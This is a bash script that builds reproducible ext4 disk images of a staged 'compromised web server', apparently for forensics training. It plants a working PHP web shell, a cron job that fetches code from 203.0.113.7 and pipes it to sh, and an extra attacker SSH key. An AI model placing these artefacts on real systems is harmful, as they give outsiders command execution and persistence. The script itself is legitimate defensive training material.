#!/usr/bin/env bash
# Build the disk images of the cloud range's "compromised web server": ext4 file systems with planted
# attacker artefacts (a web shell, a cron persistence entry, an added authorized_keys line, deleted
# files), each in a 1 GiB sparse volume image. The images are bit-identical on every run: fixed UUIDs
# and hash seeds, fixed times on every inode and in the superblock, fixed owners and modes.
#
#   scripts/make-images.sh OUTDIR        (needs e2fsprogs: mkfs.ext4, debugfs, e2fsck)
set -euo pipefail
out=${1:?usage: make-images.sh OUTDIR}
mkdir -p "$out"
export E2FSPROGS_FAKE_TIME=1700000000 TZ=UTC LC_ALL=C
stamp=20231114221320 # the same instant, as debugfs writes it
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

# fs NAME LABEL UUID SIZE DELETED...: an ext4 image of $work/NAME, with the DELETED paths removed
# afterwards (they stay recoverable from the unallocated inodes), grown to a 1 GiB volume.
fs() {
  local name=$1 label=$2 uuid=$3 size=$4
  shift 4
  local src=$work/$name img=$out/$name.img
  find "$src" -type d -exec chmod 755 {} +
  find "$src" -type f -exec chmod 644 {} +
  [ -d "$src/root/.ssh" ] && chmod 700 "$src/root/.ssh" && chmod 600 "$src/root/.ssh/authorized_keys"
  find "$src" -exec touch -h -d @1700000000 {} +
  rm -f "$img"
  mkfs.ext4 -q -F -d "$src" -L "$label" -U "$uuid" -E "hash_seed=$uuid" -T small -b 1024 "$img" "$size" >/dev/null
  # mkfs -d numbers inodes in order: every inode in use now is below this bound.
  local count free
  count=$(debugfs -R stats "$img" 2>/dev/null | awk -F: '/^Inode count/ {gsub(/ /, "", $2); print $2}')
  free=$(debugfs -R stats "$img" 2>/dev/null | awk -F: '/^Free inodes/ {gsub(/ /, "", $2); print $2}')
  for path in "$@"; do
    debugfs -w -R "rm $path" "$img" >/dev/null 2>&1
  done
  {
    for i in $(seq 1 $((count - free))); do
      for f in atime mtime ctime crtime; do echo "sif <$i> $f $stamp"; done
      echo "sif <$i> uid 0"
      echo "sif <$i> gid 0"
    done
    for f in mtime wtime lastcheck mkfs_time; do echo "ssv $f $stamp"; done
  } > "$work/$name.cmds"
  debugfs -w -f "$work/$name.cmds" "$img" >/dev/null 2>&1
  e2fsck -fn "$img" >/dev/null 2>&1 || { echo "make-images: $img does not check clean" >&2; exit 1; }
  truncate -s 1G "$img"
}

# The web server's root volume.
r=$work/web-root
mkdir -p "$r/var/www/html/uploads" "$r/etc/cron.d" "$r/root/.ssh" "$r/tmp/.x" "$r/var/log/nginx"
printf '<?php echo "Welcome to example.org"; ?>\n' > "$r/var/www/html/index.php"
printf '<?php if (isset($_GET["c"])) { system($_GET["c"]); } ?>\n' > "$r/var/www/html/uploads/shell.php"
printf '*/5 * * * * root curl -fsSL http://203.0.113.7/u | sh >/dev/null 2>&1\n' > "$r/etc/cron.d/sysupdate"
printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAdmin admin@example.org\nssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIEvil root@203.0.113.7\n' > "$r/root/.ssh/authorized_keys"
printf '203.0.113.7 - - [14/Nov/2023:22:10:01 +0000] "POST /uploads/shell.php?c=id HTTP/1.1" 200 54\n' > "$r/var/log/nginx/access.log"
head -c 40000 /dev/zero | tr '\0' 'M' > "$r/tmp/.x/miner"
fs web-root web-root 8d1f0c4e-2b3a-4c5d-9e6f-7a8b9c0d1e2f 16M /tmp/.x/miner

# The data volume.
d=$work/web-data
mkdir -p "$d/srv/data/.cache"
printf 'id,name,email\n1,Ada,ada@example.org\n2,Alan,alan@example.org\n' > "$d/srv/data/customers.csv"
head -c 60000 /dev/zero | tr '\0' 'D' > "$d/srv/data/.cache/stage.tar"
fs web-data web-data 3c9a7e21-5b4d-4f6e-8a1b-2c3d4e5f6a7b 8M /srv/data/.cache/stage.tar

echo "images in $out: web-root.img web-data.img"
